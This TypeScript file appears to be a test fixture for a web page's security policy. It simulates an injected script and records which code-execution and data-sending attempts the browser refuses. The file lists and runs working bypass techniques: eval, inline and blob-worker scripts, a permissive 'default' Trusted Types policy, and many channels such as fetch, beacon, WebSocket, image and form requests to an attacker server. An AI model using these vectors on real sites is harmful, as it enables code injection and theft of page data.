/**
 * Attack from injected code in one of the page's own scripts: tries to run more code, and to send away data
 * of the page. Runs as text appended to a script of the build, so that it has exactly the powers of a script
 * of the page.
 */

/** Names of all ways to run more code, and to send data to the attacker's server. */
export const attackNames = [
  "beacon",
  "eval",
  "event source",
  "fetch",
  "form",
  "frame",
  "frame with text",
  "function",
  "handler",
  "image",
  "import",
  "inline script",
  "javascript address",
  "object",
  "picture of a style",
  "prefetch",
  "script",
  "style sheet",
  "text of a timer",
  "web socket",
  "worker of a blob",
  "xhr"
] as const

/** Runs in the page. Records successes and refusals on the root element. */
export const attack = async (server: string): Promise<void> => {
  const root = document.documentElement
  const ran: string[] = []
  const refused: string[] = []
  Object.assign(globalThis, { ran: (name: string) => ran.push(name) })
  const to = (name: string) => `${server}/${encodeURIComponent(name)}`
  const call = (name: string) => `ran(${JSON.stringify(name)})`
  const make = (tag: string, attributes: Readonly<Record<string, string>>) => {
    const element = document.createElement(tag)
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
    document.body.append(element)
    return element
  }
  const attempt = async (name: string, work: () => unknown) => {
    try {
      await work()
    } catch {
      refused.push(name)
    }
  }
  // Runs before any policy is created: text is not a script.
  await attempt("text as markup", () => {
    document.createElement("div").innerHTML = "<b>text</b>"
  })
  // The first policy for such texts wins, and could let everything through.
  const types = (globalThis as { trustedTypes?: { createPolicy(name: string, rules: object): unknown } })
    .trustedTypes
  const through = (text: string) => text
  await attempt("a second policy", () => types?.createPolicy("evil", { createHTML: through }))
  await attempt("the policy", () =>
    types?.createPolicy("default", { createHTML: through, createScript: through, createScriptURL: through })
  )
  const indirect = globalThis as unknown as {
    eval(text: string): unknown
    Function(text: string): () => unknown
  }
  await attempt("eval", () => indirect.eval(call("eval")))
  await attempt("function", () => indirect.Function(call("function"))())
  await attempt("text of a timer", () => (setTimeout as (text: string) => void)(call("text of a timer")))
  await attempt("inline script", () => {
    const script = document.createElement("script")
    script.textContent = call("inline script")
    document.body.append(script)
  })
  await attempt("handler", () => {
    const place = document.createElement("div")
    place.innerHTML = `<img src="/no-such-picture" onerror='${call("handler")}'>`
    document.body.append(place)
  })
  await attempt("javascript address", () =>
    make("iframe", { src: `javascript:parent.${call("javascript address")}` })
  )
  await attempt("frame with text", () =>
    make("iframe", { srcdoc: `<script>parent.${call("frame with text")}</script>` })
  )
  await attempt("worker of a blob", () => {
    const text = `fetch(${JSON.stringify(to("worker of a blob"))}, { mode: "no-cors" })`
    return new Worker(URL.createObjectURL(new Blob([text], { type: "text/javascript" })))
  })
  await attempt("script", () => make("script", { src: to("script") }))
  await attempt("import", () => import(/* @vite-ignore */ to("import")))
  await attempt("fetch", () => fetch(to("fetch"), { mode: "no-cors" }))
  await attempt("xhr", () => {
    const request = new XMLHttpRequest()
    request.open("GET", to("xhr"))
    request.send()
  })
  await attempt("beacon", () => navigator.sendBeacon(to("beacon"), "token"))
  await attempt("event source", () => new EventSource(to("event source")))
  await attempt("web socket", () => new WebSocket(to("web socket").replace("http", "ws")))
  await attempt("image", () => make("img", { src: to("image") }))
  await attempt("picture of a style", () => {
    make("p", {}).style.backgroundImage = `url("${to("picture of a style")}")`
  })
  await attempt("style sheet", () => make("link", { rel: "stylesheet", href: to("style sheet") }))
  await attempt("prefetch", () => make("link", { rel: "prefetch", href: to("prefetch") }))
  await attempt("object", () => make("object", { data: to("object"), type: "text/html" }))
  await attempt("frame", () => make("iframe", { src: to("frame"), name: "away" }))
  await attempt("form", () => {
    make("iframe", { name: "answer" })
    ;(make("form", { action: to("form"), target: "answer" }) as HTMLFormElement).submit()
  })
  // Two round trips: requests sent before have left the page by then.
  await fetch("/version.json")
  await fetch("/version.json")
  await new Promise((resolve) => setTimeout(resolve, 500))
  root.dataset["refused"] = refused.join()
  root.dataset["ran"] = ran.join()
}
